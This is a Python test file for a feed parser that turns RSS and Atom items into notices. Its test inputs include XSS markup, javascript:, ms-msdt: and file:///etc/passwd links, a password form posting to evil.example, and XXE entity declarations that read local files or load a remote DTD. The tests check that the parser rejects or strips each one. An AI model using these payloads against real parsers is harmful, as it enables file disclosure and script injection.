"""RSS and Atom become notices with plain text, safe links and steady keys."""

from __future__ import annotations

import hashlib
from collections.abc import Iterator
from datetime import UTC, datetime
from html import escape

import pytest

from feeds.notice import Form
from feeds.web_feed_worker import worker
from tests.feeds.written import split_up


@pytest.fixture(scope="module", autouse=True)
def _worker_ends_with_the_tests() -> Iterator[None]:
    yield
    worker.close()


def rss(*items: str, head: str = "") -> bytes:
    """Return a feed of these items."""
    channel = f"<title>A feed</title><link>https://feed.example/</link>{''.join(items)}"
    opening = f'<?xml version="1.0" encoding="utf-8"?>{head}<rss version="2.0">'
    return f"{opening}<channel>{channel}</channel></rss>".encode()


def item(**fields: str) -> str:
    """Return an item with these elements, escaped."""
    return (
        "<item>" + "".join(f"<{name}>{escape(value)}</{name}>" for name, value in fields.items()) + "</item>"
    )


def test_an_item_is_a_notice_with_no_deadline() -> None:
    body = rss(
        item(
            title="Lunch club",
            link="https://feed.example/1",
            guid="g-1",
            pubDate="Tue, 09 Jun 2026 09:30:00 +0100",
            author="Ashlow Valley Council",
            description="<p>Two mornings &amp; more.</p><p>Apply by 30 June.</p>",
        )
    )

    [notice], _ = split_up(body)

    assert notice.form is Form.WEB_FEED
    assert (notice.source, notice.id, notice.url) == ("test", "g-1", "https://feed.example/1")
    assert notice.released_at == datetime(2026, 6, 9, 8, 30, tzinfo=UTC)
    assert (notice.title, notice.buyer_name) == ("Lunch club", "Ashlow Valley Council")
    assert notice.description == "Two mornings & more.\n\nApply by 30 June."
    assert notice.deadline is None
    assert notice.opportunity == "rss:test:" + hashlib.sha256(b"g-1").hexdigest()[:16]
    assert notice.content.startswith(b"<item><title>Lunch club</title>")


def test_atom_is_read_too() -> None:
    body = b"""<feed xmlns="http://www.w3.org/2005/Atom"><title>A</title>
      <entry><id>tag:feed.example,2026:1</id><title type="html">Warm &lt;b&gt;rooms&lt;/b&gt;</title>
      <link href="https://feed.example/warm"/><updated>2026-06-01T10:00:00Z</updated>
      <content type="html">&lt;script&gt;alert(1)&lt;/script&gt;Open to all</content></entry></feed>"""

    [notice], _ = split_up(body)

    assert (notice.title, notice.description, notice.url) == (
        "Warm rooms",
        "Open to all",
        "https://feed.example/warm",
    )
    assert notice.released_at == datetime(2026, 6, 1, 10, tzinfo=UTC)


@pytest.mark.parametrize(
    "link",
    [
        "javascript:alert(1)",
        "data:text/html,x",
        "file:///etc/passwd",
        "file://evil.example/share/x",
        "ms-msdt:/id",
        "search-ms:query",
        "vbscript:x",
        "https://user:pass@feed.example/",
        "https://feed.example\\@evil.example/",
        "mailto:somebody@feed.example",
        "https://[::1",
    ],
)
def test_only_addresses_on_the_web_are_links(link: str) -> None:
    [notice], _ = split_up(rss(item(title="A tender", link=link, guid="1")))

    assert notice.url is None


def test_a_relative_link_is_read_from_the_feeds_own_site() -> None:
    [notice], _ = split_up(rss(item(title="A tender", link="tenders/1")))

    assert notice.url == "https://feed.example/tenders/1"


def test_markup_never_reaches_a_notice() -> None:
    markup = (
        "<script>x()</script><style>p{}</style><img src=file:///etc/passwd onerror=x()>"
        "<form action=//evil.example><input type=password></form>Plain<iframe src=//evil.example></iframe>"
    )

    [notice], _ = split_up(rss(item(title=markup, author=markup, description=markup, guid="1")))

    assert (notice.title, notice.buyer_name, notice.description) == ("Plain", "Plain", "Plain")


def test_control_characters_go_and_direction_marks_stay_to_be_shown() -> None:
    [notice], _ = split_up(rss(item(title="abc\u202egpj.exe", description="one&#7;two&#27;[31m", guid="1")))

    assert notice.title == "abc\u202egpj.exe"
    assert notice.description == "one two [31m"


def test_an_author_with_an_email_address_is_not_kept_as_a_buyer() -> None:
    [notice], _ = split_up(rss(item(title="A", link="https://feed.example/1", author="jo@feed.example (Jo)")))

    assert notice.buyer_name is None


def test_a_guid_used_twice_for_different_links_yields_to_the_link() -> None:
    body = rss(
        item(title="One", link="https://feed.example/1", guid="same"),
        item(title="Two", link="https://feed.example/2", guid="same"),
    )

    notices, _ = split_up(body)

    assert [notice.id for notice in notices] == ["https://feed.example/1", "https://feed.example/2"]
    assert len({notice.opportunity for notice in notices}) == 2


@pytest.mark.parametrize(
    "second",
    [
        item(title="Other words", link="https://feed.example/1", guid="b"),
        item(title="One", link="https://feed.example/9", guid="b", pubDate="Tue, 09 Jun 2026 09:30:00 GMT"),
    ],
)
def test_the_same_link_or_title_and_date_is_the_same_opportunity(second: str) -> None:
    first = item(
        title="One", link="https://feed.example/1", guid="a", pubDate="Tue, 09 Jun 2026 09:30:00 GMT"
    )

    notices, _ = split_up(rss(first, second))

    assert len({notice.opportunity for notice in notices}) == 1
    assert [notice.id for notice in notices] == ["a", "b"]


def test_markup_that_changes_is_not_another_version_but_words_are() -> None:
    def content_hash(text: str) -> str:
        [notice], _ = split_up(rss(item(title="One", link="https://feed.example/1", description=text)))
        return notice.content_hash

    assert content_hash("<p class=a>Words</p>") == content_hash("<p class=b>Words</p>")
    assert content_hash("<p>Words</p>") != content_hash("<p>Other words</p>")


def test_a_feed_from_a_file_belongs_to_the_site_it_names() -> None:
    [notice], _ = split_up(rss(item(title="One", guid="1")), name="saved-page.xml")

    assert notice.source == "feed.example"
    assert notice.received_from == "test"


def test_an_item_with_neither_title_nor_link_is_set_aside() -> None:
    notices, rejections = split_up(rss(item(description="Only words"), item(title="One")))

    assert len(notices) == 1
    assert [(each.position, each.reason) for each in rejections] == [
        (0, "It has neither a title nor an address on the web.")
    ]
    assert rejections[0].item == b"<item><description>Only words</description></item>"


def test_a_feed_that_breaks_off_keeps_what_came_whole() -> None:
    body = rss(*(item(title=f"Number {n}", link=f"https://feed.example/{n}") for n in range(5)))

    notices, rejections = split_up(body[: body.index(b"Number 3") + 6])

    assert [notice.title for notice in notices] == ["Number 0", "Number 1", "Number 2"]
    assert [each.reason for each in rejections] == ["The feed was cut off in the middle of this item."]


@pytest.mark.parametrize(
    "head",
    [
        '<!DOCTYPE rss [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;">]>',
        '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/hostname">]>',
        '<!DOCTYPE rss [<!entity % remote SYSTEM "http://evil.example/a.dtd"> %remote;]>',
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "utf-32-be"])
def test_entities_of_its_own_are_refused_unread(head: str, encoding: str) -> None:
    body = rss(item(title="&lol2;"), head=head).decode().replace('encoding="utf-8"', "")

    notices, rejections = split_up(body.encode(encoding))

    assert notices == []
    assert [each.reason for each in rejections] == [
        "It defines entities of its own, which is not safe to read."
    ]


def test_an_encoding_that_hides_letters_is_refused() -> None:
    hidden = '<?xml version="1.0" encoding="utf-7"?>+ADwAIQ-ENTITY x "y"><rss version="2.0"></rss>'

    _, rejections = split_up(hidden.encode())

    assert [each.reason for each in rejections] == [
        "It says that it is written in utf-7, which is not safe to read."
    ]


def test_a_doctype_that_only_points_somewhere_is_not_followed() -> None:
    head = '<!DOCTYPE rss PUBLIC "-//x//DTD RSS 0.91//EN" "file:///etc/hostname">'

    notices, _ = split_up(rss(item(title="One"), head=head))

    assert [notice.title for notice in notices] == ["One"]


@pytest.mark.parametrize(
    "written",
    [
        "Tue, 31 Feb 2026 00:00:00 GMT",
        "0000-00-00",
        "31 Dec 9999 23:59:59 GMT",
        "next week",
        "1 Jan 1066 00:00 GMT",
    ],
)
def test_a_date_nobody_can_believe_is_left_out(written: str) -> None:
    [notice], _ = split_up(rss(item(title="One", pubDate=written)))

    assert notice.released_at is None


def test_more_items_than_are_read_are_named_with_their_number() -> None:
    body = rss(
        *(item(title=f"Number {n}", guid="same", link=f"https://feed.example/{n}") for n in range(510))
    )

    notices, rejections = split_up(body)

    assert len(notices) == 500
    assert len({notice.opportunity for notice in notices}) == 500
    reason = "The feed holds 510 items; 500 are read, so the last 10 were left out."
    assert [each.reason for each in rejections] == [reason]


def test_a_huge_title_and_text_are_cut() -> None:
    [notice], _ = split_up(rss(item(title="a" * 3_000_000, description="b" * 3_000_000)))

    assert len(notice.title or "") == 10_000
    assert len(notice.description or "") == 200_000


def test_a_title_full_of_combining_marks_survives() -> None:
    [notice], _ = split_up(rss(item(title="Z" + "\u0300" * 5_000)))

    assert (notice.title or "").startswith("Z")


def test_a_valid_feed_with_no_items_holds_nothing() -> None:
    assert split_up(rss()) == ([], [])
